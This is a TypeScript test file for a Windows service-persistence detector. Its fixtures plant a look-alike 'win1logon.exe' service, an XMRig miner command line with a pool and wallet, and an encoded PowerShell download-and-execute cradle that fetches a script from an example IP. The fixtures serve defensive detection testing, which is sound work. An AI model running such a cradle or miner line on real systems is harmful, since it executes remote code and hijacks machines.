// Tests for windows-service-odd: the stock services (Windows Defender's MsMpEng.exe in ProgramData,
// svchost services with their ServiceDll, Edge's updater under Program Files) give nothing; a service
// running a look-alike program from ProgramData, one running XMRig's arguments from Users\Public, and a
// FailureCommand that decodes a PowerShell payload are each reported with what gave them away.
import { describe, expect, it } from 'vitest';
import { defaultIocDir, loadRuleset } from '../../iocs/load.js';
import { FindingSchema } from '../../model/finding.js';
import {
  cleanWindows,
  encodedPowerShell,
  failedWindowsSnapshot,
  service,
  windowsSnapshot,
} from '../../../test/helpers/windows-detect-builders.js';
import { runDetectors } from '../run.js';
import { windowsServiceOdd } from './windows-service-odd.js';

const ruleset = await loadRuleset([defaultIocDir()]);
const WALLET =
  '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';

describe('windows-service-odd', () => {
  it('clean: Defender in ProgramData, svchost services, Program Files services', () => {
    expect(runDetectors(windowsSnapshot(cleanWindows()), ruleset, [windowsServiceOdd])).toEqual({
      findings: [],
      skipped: [],
    });
  });

  it('findings: a look-alike in ProgramData, a miner in Users\\Public, an encoded FailureCommand', () => {
    const w = cleanWindows();
    w.services!.push(
      service({
        name: 'WinLogonSvc',
        imagePath: 'C:\\ProgramData\\Intel\\win1logon.exe',
        image: { file: '/ProgramData/Intel/win1logon.exe', exists: true },
      }),
      service({
        name: 'AudioSrvHost',
        imagePath: `"C:\\Users\\Public\\Music\\audiohost.exe" -o stratum+tcp://pool.supportxmr.com:3333 -u ${WALLET} --donate-level 1`,
        image: { file: '/Users/Public/Music/audiohost.exe', exists: true },
      }),
      service({
        name: 'PrintNotifyX',
        imagePath: '%SystemRoot%\\System32\\spoolsv.exe',
        failureCommand: `powershell.exe ${encodedPowerShell("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')")}`,
      }),
    );
    const { findings } = runDetectors(windowsSnapshot(w), ruleset, [windowsServiceOdd]);
    for (const f of findings) expect(FindingSchema.parse(f)).toEqual(f);
    const by = new Map(findings.map((f) => [f.data?.service, f]));
    expect(by.size).toBe(3);
    // The program file is the subject: the file finding and the service merge elsewhere.
    expect(by.get('WinLogonSvc')).toMatchObject({
      level: 'critical',
      kind: 'driver',
      category: 'persistence',
    });
    expect(by.get('WinLogonSvc')!.message.en).toContain('win1logon.exe imitates winlogon.exe');
    expect(by.get('WinLogonSvc')!.remediate).toEqual([
      expect.objectContaining({ type: 'windows-command', object: 'service', name: 'WinLogonSvc' }),
      expect.objectContaining({
        type: 'windows-command',
        object: 'process',
        command:
          "Get-Process | Where-Object Path -eq 'C:\\ProgramData\\Intel\\win1logon.exe' | Stop-Process -Force",
      }),
      { type: 'quarantine-file', path: '/ProgramData/Intel/win1logon.exe' },
    ]);
    expect(by.get('AudioSrvHost')).toMatchObject({ level: 'high', kind: 'open-source-miner' });
    expect(by.get('AudioSrvHost')!.evidence).toContainEqual(expect.objectContaining({ value: WALLET }));
    expect(by.get('PrintNotifyX')).toMatchObject({ level: 'high', kind: 'fileless' });
    expect(by.get('PrintNotifyX')!.evidence).toContainEqual(
      expect.objectContaining({
        field: expect.stringContaining('FailureCommand (decoded)'),
        value: expect.stringContaining('DownloadString'),
      }),
    );
  });

  it('skipped: the registry could not be read', () => {
    expect(runDetectors(failedWindowsSnapshot(), ruleset, [windowsServiceOdd]).skipped).toEqual([
      { ruleId: 'windows-service-odd', missing: ['windows-registry'] },
    ]);
  });
});
